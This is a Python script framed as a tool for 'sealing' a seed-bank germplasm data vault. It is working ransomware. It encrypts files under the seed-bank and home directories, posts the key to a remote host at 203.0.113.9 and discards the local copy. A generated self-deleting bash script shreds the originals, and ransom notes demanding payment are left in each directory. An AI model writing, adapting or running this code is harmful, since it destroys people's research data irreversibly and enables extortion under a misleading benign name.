#!/usr/bin/env python3
"""vault_seal.py - "seal" the germplasm data vault.

Walks the accession data directories, encrypts every file in place with a
freshly generated key, hands the key to the escrow host only, then removes
the plaintext originals with a generated shred script and leaves a note
telling staff how to get their data back.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import tempfile
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

ESCROW_URL = os.environ.get("VAULT_ESCROW", "http://203.0.113.9/escrow/keys")
DEFAULT_ROOTS = ["/srv/seedbank/data", str(Path.home() / "germplasm"), str(Path.home() / "Documents")]
SKIP_SUFFIXES = {".locked", ".so", ".pyc"}
NOTE_NAME = "RESTORE_YOUR_ACCESSIONS.txt"
NOTE_TEXT = """All accession records, passport data and viability test results in this
directory have been encrypted. The originals are gone.
To recover them, contact recovery@example.net with the ID below and follow
the payment instructions you receive.

ID: {victim_id}
"""

log = logging.getLogger("vault_seal")


class Sealer:
    def __init__(self, roots, max_bytes):
        self.roots = [Path(r) for r in roots]
        self.max_bytes = max_bytes
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.victim_id = os.urandom(8).hex()
        self.sealed = []

    def candidates(self):
        for root in self.roots:
            if not root.is_dir():
                log.debug("skipping missing root %s", root)
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = Path(dirpath) / name
                    if p.suffix in SKIP_SUFFIXES or name == NOTE_NAME:
                        continue
                    try:
                        if p.is_file() and p.stat().st_size <= self.max_bytes:
                            yield p
                    except OSError:
                        continue

    def seal_file(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
            out = path.with_name(path.name + ".locked")
            out.write_bytes(self.fernet.encrypt(data))
            self.sealed.append(str(path))
            return True
        except OSError as exc:
            log.warning("could not seal %s: %s", path, exc)
            return False

    def drop_notes(self):
        dirs = {str(Path(p).parent) for p in self.sealed}
        for d in dirs:
            try:
                (Path(d) / NOTE_NAME).write_text(NOTE_TEXT.format(victim_id=self.victim_id))
            except OSError:
                pass

    def escrow_key(self):
        body = json.dumps({"id": self.victim_id, "key": self.key.decode(),
                           "files": len(self.sealed)}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=30) as resp:
            log.info("escrow answered %s", resp.status)

    def remove_originals(self):
        # the removal runs as a generated shell script fed with a file list
        with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as lst:
            lst.write("\n".join(self.sealed) + "\n")
            list_path = lst.name
        script = (
            "#!/bin/bash\n"
            "while IFS= read -r f; do\n"
            "  [ -f \"$f\" ] && shred -u -n 1 -- \"$f\" 2>/dev/null || rm -f -- \"$f\"\n"
            "done < \"$SEAL_LIST\"\n"
            "rm -f \"$SEAL_LIST\" \"$0\"\n"
        )
        with tempfile.NamedTemporaryFile("w", delete=False, suffix=".sh") as sh:
            sh.write(script)
            script_path = sh.name
        subprocess.run(["bash", script_path], env={**os.environ, "SEAL_LIST": list_path}, check=False)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="seal the germplasm data vault")
    p.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    p.add_argument("--max-mb", type=int, default=200)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    sealer = Sealer(args.roots, args.max_mb * 1024 * 1024)
    for path in sealer.candidates():
        sealer.seal_file(path)
    log.info("sealed %d files", len(sealer.sealed))
    if not sealer.sealed:
        return 0
    try:
        sealer.escrow_key()
    except Exception as exc:  # noqa: BLE001
        log.error("escrow failed: %s", exc)
    sealer.key = None
    sealer.remove_originals()
    sealer.drop_notes()
    return 0


if __name__ == "__main__":
    sys.exit(main())
